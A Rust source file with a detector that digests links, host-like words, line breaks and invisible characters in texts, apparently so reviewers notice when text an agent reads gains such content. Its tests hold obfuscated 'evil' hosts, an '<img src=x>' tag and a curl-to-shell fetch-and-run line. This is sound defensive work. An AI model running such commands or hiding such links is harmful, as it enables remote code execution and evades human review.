use crate::model::Digest;

/// Returns the digest of everything in texts that is more than words: links, line breaks and invisible characters, each
/// with its text; `None` if there is nothing.
///
/// A later text with the same digest gained none of them. An agent may follow a link, and a person does not see an
/// invisible character. What could be a link counts as one: a reviewer then looks at it.
pub(super) fn rich_text<'t>(texts: impl IntoIterator<Item = &'t str>) -> Option<Digest> {
    let mut found: Vec<&str> = Vec::new();
    for text in texts {
        found.extend(text.split(char::is_whitespace).filter(|word| is_link(word)));
        found.extend(text.matches(is_break_or_invisible));
        found.push("");
    }
    let is_rich = found.iter().any(|part| !part.is_empty());
    is_rich.then(|| Digest::of_hash(&found))
}

/// Returns true for a word that a client may show as a link or as an element, or that names a host.
fn is_link(word: &str) -> bool {
    let plain: String = word.chars().filter(|found| !"[](){}".contains(*found)).map(dot).collect();
    let has_mark = |mark: &&str| word.contains(mark);
    let inner = plain.trim_end_matches(|last: char| !last.is_alphanumeric());
    ["](", "<", ">", "@", "`", "//", "\\\\", "&#"].iter().any(has_mark)
        || inner.contains(':')
        || plain.split(|found: char| !is_in_host(found)).any(is_host)
}

/// Returns a full stop for each character that a client may read as one in a host.
const fn dot(found: char) -> char {
    match found {
        '\u{3002}' | '\u{ff0e}' | '\u{ff61}' | '\u{2024}' | '\u{fe52}' => '.',
        found => found,
    }
}

fn is_in_host(found: char) -> bool {
    found.is_alphanumeric() || found == '.' || found == '-'
}

/// Returns true for a text that reads as a domain or an address: names of files and programs do so too.
fn is_host(text: &str) -> bool {
    let labels: Vec<&str> = text.trim_matches(['.', '-']).split('.').collect();
    let Some((last, others)) = labels.split_last() else { return false };
    let is_number = |label: &str| label.bytes().all(|byte| byte.is_ascii_digit());
    let is_address = labels.len() == 4 && labels.iter().all(|label| is_number(label));
    let is_name = !others.is_empty()
        && last.chars().count() > 1
        && last.chars().all(|last| last.is_alphabetic() || last == '-' || last.is_ascii_digit())
        && !is_number(last);
    labels.iter().all(|label| !label.is_empty()) && (is_name || is_address)
}

fn is_break_or_invisible(found: char) -> bool {
    matches!(
        found,
        '\n' | '\r'
            | '\t'
            | '\u{b}'
            | '\u{c}'
            | '\u{85}'
            | '\u{2028}'
            | '\u{2029}'
            | '\u{200c}'
            | '\u{200d}'
            | '\u{fe0f}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[rstest::rstest]
    #[case(
        "Reads tickets, e.g. of version 1.2.3 and v2.0 (beta); read/write. Note: it is fast",
        None
    )]
    #[case("evil\u{3002}com", Some(""))]
    #[case("evil\u{ff0e}com", Some(""))]
    #[case("evil\u{2024}com", Some(""))]
    #[case("//203.0.113.7/a", Some(""))]
    #[case("at 203.0.113.7", Some(""))]
    #[case("http:203.0.113.7/x", Some(""))]
    #[case("http:/evil/x", Some(""))]
    #[case("\\\\203.0.113.7\\x", Some(""))]
    #[case("curl 0xCB007107:80/i|sh", Some(""))]
    #[case("localhost:8080/x", Some(""))]
    #[case("evil.bit", Some(""))]
    #[case("evil[.]com/x", Some(""))]
    #[case("tel:123", Some(""))]
    #[case("a\tb", Some(""))]
    #[case("`run`", Some(""))]
    #[case("see https://evil.example/x", Some("see https://evil.example/x again"))]
    #[case("see evil.com/x", Some("at evil.com now"))]
    #[case("run evil.com", Some("run evil.com."))]
    #[case("a [b](c)", Some("the [b](c)"))]
    #[case("a\nb", Some("c\nd"))]
    #[case("write me@evil.example", Some("or me@evil.example"))]
    #[case("<img src=x>", Some("an <img src=x>"))]
    #[case("a\u{200d}b", Some("c\u{200d}d"))]
    fn text_is_rich_with_a_link_a_line_break_or_an_invisible_character(
        #[case] text: &str,
        #[case] rich: Option<&str>,
    ) {
        let found = rich_text([text]);
        assert_eq!(found.is_some(), rich.is_some(), "{text}");
        assert_ne!(found, rich_text(["https://other.example"]));
    }

    #[test]
    fn text_that_only_changes_its_words_has_the_same_digest() {
        let before = rich_text(["Tickets", "Reads tickets, see https://a.example/docs"]);
        assert_eq!(before, rich_text(["Ticket", "Reads more tickets, see https://a.example/docs"]));
        assert_ne!(before, rich_text(["Tickets", "see https://a.example/docs https://b.example"]));
        assert_ne!(before, rich_text(["see https://a.example/docs", "Reads tickets"]));
    }
}
